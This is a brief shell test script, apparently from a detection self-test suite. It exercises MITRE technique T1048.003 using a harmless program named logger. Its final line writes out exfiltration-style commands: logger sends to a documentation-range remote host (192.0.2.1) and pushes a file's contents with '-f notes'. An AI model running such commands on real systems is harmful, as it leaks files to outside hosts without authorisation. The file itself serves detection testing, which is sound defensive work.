#!/bin/sh
# quiet: File sent by a tool
# technique: T1048.003
# case: lines go to a log, by a program that only bears logger's name
# needs: nothing

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
. "${0%/*}/../harmless.inc"
outside
harmless logger && ./logger -n 192.0.2.1 -t backup done; ./logger -t import -f notes
